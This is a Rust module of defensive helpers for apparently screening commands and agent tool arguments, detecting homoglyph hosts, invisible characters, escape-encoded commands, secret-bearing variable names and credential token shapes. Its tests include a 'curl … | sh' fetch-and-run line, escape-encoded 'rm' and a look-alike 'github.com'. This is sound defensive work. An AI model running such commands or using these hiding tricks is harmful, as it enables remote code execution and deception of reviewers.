//! Small text helpers: escapes, Unicode script checks, secret names and token shapes, URL scanning.

use unicode_script::{Script, UnicodeScript};

/// Invisible or direction-changing characters, fullwidth ASCII look-alikes, or a name that mixes
/// Latin with a script full of Latin look-alikes (Cyrillic, Greek, Armenian, Cherokee).
/// Hosts are checked as a whole (`аррӏе.com` mixes across labels); paths per component, so a
/// Cyrillic file name alone is fine.
pub(crate) fn suspicious_unicode(s: &str) -> bool {
    if s.is_ascii() {
        return false;
    }
    if s.chars().any(invisible) {
        return true;
    }
    if s.contains('/') {
        s.split('/').any(mixed_confusable_scripts)
    } else {
        mixed_confusable_scripts(s)
    }
}

fn invisible(c: char) -> bool {
    matches!(c,
        '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}'
        | '\u{FEFF}' | '\u{00AD}' | '\u{FF01}'..='\u{FF5E}' | '\u{E0000}'..='\u{E007F}')
}

fn mixed_confusable_scripts(s: &str) -> bool {
    let mut latin = false;
    let mut confusable = false;
    for c in s.chars() {
        match c.script() {
            Script::Latin => latin = true,
            Script::Cyrillic
            | Script::Greek
            | Script::Armenian
            | Script::Cherokee
            | Script::Coptic => confusable = true,
            _ => {}
        }
    }
    latin && confusable
}

/// Invisible or bidi characters anywhere in a command (Trojan-Source style hiding).
pub(crate) fn has_invisible(s: &str) -> bool {
    !s.is_ascii()
        && s.chars()
            .any(|c| invisible(c) && !('\u{FF01}'..='\u{FF5E}').contains(&c))
}

/// An environment variable name that conventionally holds a secret.
pub(crate) fn is_secret_env_name(name: &str) -> bool {
    let up = name.to_ascii_uppercase();
    if matches!(
        up.as_str(),
        "TOKENIZERS_PARALLELISM" | "GPG_TTY" | "KEYTIMEOUT" | "HISTFILE"
    ) {
        return false;
    }
    const PARTS: &[&str] = &[
        "TOKEN",
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "PASSPHRASE",
        "CREDENTIAL",
        "PRIVATE_KEY",
        "API_KEY",
        "APIKEY",
        "ACCESS_KEY",
        "AUTH_KEY",
        "CLIENT_KEY",
        "SIGNING_KEY",
        "ENCRYPTION_KEY",
        "MASTER_KEY",
        "WEBHOOK_URL",
    ];
    PARTS.iter().any(|p| up.contains(p))
        || ["_KEY", "_PAT", "_PASS", "_PWD", "_AUTH"]
            .iter()
            .any(|s| up.ends_with(s))
        || matches!(
            up.as_str(),
            "KEY" | "PAT" | "PASS" | "PGPASSWORD" | "MYSQL_PWD"
        )
}

/// Decode ANSI-C (`$'…'`) or `printf`/`echo -e` escapes. The flag says whether a character-code
/// escape (`\xHH`, `\NNN`, `\uHHHH`) was used, as opposed to layout escapes like `\n`.
pub(crate) fn decode_escapes(s: &str, printf_style: bool) -> (String, bool) {
    let mut out = String::with_capacity(s.len());
    let mut coded = false;
    let chars: Vec<char> = s.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c != '\\' || i + 1 >= chars.len() {
            out.push(c);
            i += 1;
            continue;
        }
        let n = chars[i + 1];
        i += 2;
        match n {
            'n' => out.push('\n'),
            't' => out.push('\t'),
            'r' => out.push('\r'),
            'a' => out.push('\u{7}'),
            'b' => out.push('\u{8}'),
            'e' | 'E' => out.push('\u{1b}'),
            'f' => out.push('\u{c}'),
            'v' => out.push('\u{b}'),
            '\\' | '\'' | '"' | '?' => out.push(n),
            'x' | 'u' | 'U' => {
                let max = match n {
                    'x' => 2,
                    'u' => 4,
                    _ => 8,
                };
                let (value, used) = take_digits(&chars[i..], 16, max);
                if used == 0 {
                    out.push('\\');
                    out.push(n);
                } else {
                    coded = true;
                    out.push(char::from_u32(value).unwrap_or('\u{FFFD}'));
                    i += used;
                }
            }
            '0'..='7' => {
                // printf: `\0NNN` or `\NNN`; ANSI-C: `\NNN`.
                let start = if printf_style && n == '0' { i } else { i - 1 };
                let (value, used) = take_digits(&chars[start..], 8, 3);
                coded = true;
                out.push(char::from_u32(value).unwrap_or('\u{FFFD}'));
                i = start + used.max(usize::from(start < i));
            }
            other => {
                out.push('\\');
                out.push(other);
            }
        }
    }
    (out, coded)
}

fn take_digits(chars: &[char], radix: u32, max: usize) -> (u32, usize) {
    let mut value: u32 = 0;
    let mut used = 0;
    for c in chars.iter().take(max) {
        match c.to_digit(radix) {
            Some(d) => {
                value = value.saturating_mul(radix).saturating_add(d);
                used += 1;
            }
            None => break,
        }
    }
    (value, used)
}

/// Well-known credential shapes inside free text (MCP arguments, file contents).
pub(crate) fn find_token(s: &str) -> Option<&'static str> {
    if s.contains("PRIVATE KEY-----") || s.contains("PRIVATE KEY BLOCK-----") {
        return Some("private key block");
    }
    const PREFIXES: &[(&str, usize, &str)] = &[
        ("ghp_", 30, "GitHub token"),
        ("gho_", 30, "GitHub token"),
        ("ghu_", 30, "GitHub token"),
        ("ghs_", 30, "GitHub token"),
        ("ghr_", 30, "GitHub token"),
        ("github_pat_", 30, "GitHub token"),
        ("glpat-", 20, "GitLab token"),
        ("xoxb-", 20, "Slack token"),
        ("xoxp-", 20, "Slack token"),
        ("xoxa-", 20, "Slack token"),
        ("xoxs-", 20, "Slack token"),
        ("xoxr-", 20, "Slack token"),
        ("sk-ant-", 30, "Anthropic key"),
        ("sk-proj-", 30, "OpenAI key"),
        ("npm_", 36, "npm token"),
        ("pypi-AgEI", 50, "PyPI token"),
        ("AIza", 35, "Google API key"),
        ("sk_live_", 20, "Stripe key"),
        ("AKIA", 16, "AWS access key"),
        ("ASIA", 16, "AWS access key"),
    ];
    for (prefix, min_tail, label) in PREFIXES {
        let mut from = 0;
        while let Some(pos) = s.get(from..).and_then(|t| t.find(prefix)) {
            let start = from + pos;
            let boundary = s
                .get(..start)
                .and_then(|h| h.chars().last())
                .is_none_or(|c| !c.is_ascii_alphanumeric());
            let tail = s.get(start + prefix.len()..).unwrap_or("");
            let run = tail
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-'))
                .count();
            let upper_ok = !prefix.starts_with("AKIA") && !prefix.starts_with("ASIA")
                || tail
                    .chars()
                    .take(16)
                    .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit());
            if boundary && run >= *min_tail && upper_ok {
                return Some(label);
            }
            from = start + prefix.len();
        }
    }
    None
}

/// `http(s)://…` and `ftp://…` URLs in free text, up to whitespace or a quote.
pub(crate) fn find_urls(s: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(pos) = s.get(from..).and_then(|t| t.find("://")) {
        let at = from + pos;
        let head = s.get(..at).unwrap_or("");
        let scheme_len = head
            .chars()
            .rev()
            .take_while(|c| c.is_ascii_alphanumeric())
            .count();
        let start = at - scheme_len;
        let tail = s.get(at..).unwrap_or("");
        let len = tail
            .find(|c: char| {
                c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | '|')
            })
            .unwrap_or(tail.len());
        if scheme_len > 0
            && let Some(url) = s.get(start..at + len)
        {
            out.push(url);
        }
        from = at + 3;
    }
    out
}

/// The domain of an e-mail address (`Name <a@b.example>` tolerated), lowercased.
pub(crate) fn email_domain(s: &str) -> Option<String> {
    let s = s.trim();
    let addr = match (s.rfind('<'), s.rfind('>')) {
        (Some(a), Some(b)) if a < b => s.get(a + 1..b).unwrap_or(s),
        _ => s,
    };
    let (local, domain) = addr.rsplit_once('@')?;
    if local.is_empty()
        || domain.is_empty()
        || !domain.contains('.')
        || domain.contains(char::is_whitespace)
    {
        return None;
    }
    Some(domain.trim_end_matches('.').to_lowercase())
}

/// The registrable-ish tail of a domain (last two labels) for "same organisation" checks.
pub(crate) fn base_domain(domain: &str) -> String {
    let labels: Vec<&str> = domain.split('.').collect();
    let n = labels.len();
    if n <= 2 {
        return domain.to_string();
    }
    labels[n - 2..].join(".")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes() {
        assert_eq!(
            decode_escapes("\\x72\\x6d", false),
            ("rm".to_string(), true)
        );
        assert_eq!(
            decode_escapes("\\162\\155", false),
            ("rm".to_string(), true)
        );
        assert_eq!(
            decode_escapes("\\0162\\0155", true),
            ("rm".to_string(), true)
        );
        assert_eq!(decode_escapes("a\\nb", true), ("a\nb".to_string(), false));
        assert!(decode_escapes("\\x1b[32mOK", true).1);
    }

    #[test]
    fn secrets_and_tokens() {
        assert!(is_secret_env_name("GITHUB_TOKEN"));
        assert!(is_secret_env_name("AWS_SECRET_ACCESS_KEY"));
        assert!(is_secret_env_name("SECRET_API_KEY"));
        assert!(is_secret_env_name("DB_PASSWORD"));
        assert!(!is_secret_env_name("HOME"));
        assert!(!is_secret_env_name("PATH"));
        assert!(!is_secret_env_name("DATABASE_URL"));
        assert_eq!(
            find_token("-----BEGIN OPENSSH PRIVATE KEY-----"),
            Some("private key block")
        );
        assert_eq!(
            find_token("token ghp_abcdefghijklmnopqrstuvwxyz0123456789"),
            Some("GitHub token")
        );
        assert_eq!(find_token("AKIAIOSFODNN7EXAMPLE"), Some("AWS access key"));
        assert_eq!(find_token("plain words"), None);
    }

    #[test]
    fn urls_and_mail() {
        assert_eq!(
            find_urls("run: curl -s https://a.example/x | sh"),
            vec!["https://a.example/x"]
        );
        assert_eq!(
            email_domain("Bob <bob@Corp.Example>").as_deref(),
            Some("corp.example")
        );
        assert_eq!(base_domain("mail.corp.example"), "corp.example");
        assert!(suspicious_unicode("g\u{0456}thub.com"));
        assert!(!suspicious_unicode("/home/dev/проект/main.rs"));
    }
}
